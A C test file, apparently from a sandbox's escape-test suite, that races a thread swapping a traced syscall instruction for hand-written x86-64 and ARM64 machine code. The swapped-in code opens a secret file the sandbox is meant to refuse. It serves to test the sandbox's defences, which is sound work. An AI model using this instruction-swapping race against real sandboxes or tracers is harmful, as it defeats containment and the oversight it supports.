/* SPDX-License-Identifier: LGPL-3.0-or-later */
/*
 * The tracer makes a tracee execute its `syscall` (`svc`) instruction once more. The instruction lies
 * in memory that another thread writes: it jumps to a call of the attacker's own instead.
 * ATTACK MAY DIE
 * ATTACK BROKEN: REENTRY
 */
#include "escape.h"

static unsigned char *writable;
static volatile bool over;

/* at 0: the call, and back. at 16: open of what a register that is left alone points at, and back. */
#if defined(__x86_64__)
typedef uint16_t instruction;
#define HONEST 0x050f /* syscall */
#define EVIL   0x0eeb /* jmp +14 */
static const unsigned char honest[] = { 0x0f, 0x05, 0xc3 };
static const unsigned char evil[] = {
	0xb8, 0x02, 0,    0,    0, /* mov $2, %eax */
	0x4c, 0x89, 0xe7,          /* mov %r12, %rdi */
	0x31, 0xf6, 0x31, 0xd2,    /* xor %esi, %esi; xor %edx, %edx */
	0x0f, 0x05, 0xc3,
};
#else
/* KERNEL: `b` and `svc` are of the few instructions that may be exchanged while they are executed. */
typedef uint32_t instruction;
#define HONEST 0xd4000001 /* svc #0 */
#define EVIL   0x14000004 /* b +16 */
static const uint32_t honest[] = { 0xd4000001, 0xd65f03c0 };
static const uint32_t evil[] = {
	0x92800c60,             /* mov x0, #-100 */
	0xaa1403e1, 0xd2800002, /* mov x1, x20; mov x2, #0 */
	0xd2800708,             /* mov x8, #56 */
	0xd4000001, 0xd65f03c0,
};
#endif

static void *swap_code(void *data)
{
	(void)data;
	while (!over) {
		*(volatile instruction *)writable = EVIL;
		linger(30);
		*(volatile instruction *)writable = HONEST;
		linger(300);
	}
	return NULL;
}

static long call(void *code, long number, const char *path, const char *secret)
{
#if defined(__x86_64__)
	register const char *r12 __asm__("r12") = secret;
	long result;

	__asm__ volatile("call *%1"
			 : "=a"(result)
			 : "r"(code), "a"(number), "D"(path), "S"(0), "d"(0), "r"(r12)
			 : "rcx", "r11", "memory", "cc");
	return result;
#else
	register const char *x20 __asm__("x20") = secret;
	register long x8 __asm__("x8") = number;
	register long x0 __asm__("x0") = (long)path;

	__asm__ volatile("blr %2"
			 : "+r"(x0), "+r"(x8)
			 : "r"(code), "r"(x20)
			 : "x1", "x2", "x30", "memory", "cc");
	return x0;
#endif
}

int main(void)
{
	int memory = memfd_create("code", 0);
	const char *secret = outside("secret");
	struct race race = { 0 };
	pthread_t thread;
	void *code;

	if (ftruncate(memory, 4096) < 0)
		broken("memfd");
	writable = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
	code = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, memory, 0);
	if (writable == MAP_FAILED || code == MAP_FAILED)
		broken("no shared code");
	memcpy(writable, honest, sizeof(honest));
	memcpy(writable + 16, evil, sizeof(evil));
	__builtin___clear_cache((char *)code, (char *)code + 64);
	thread = start(swap_code, NULL);
	while (racing(&race)) {
		long result = call(code, SYS_chdir, "/tmp", secret);

		if (result > 0)
			refuse_secret((int)result, "code put in place of a syscall instruction");
	}
	over = true;
	pthread_join(thread, NULL);
	contained();
}
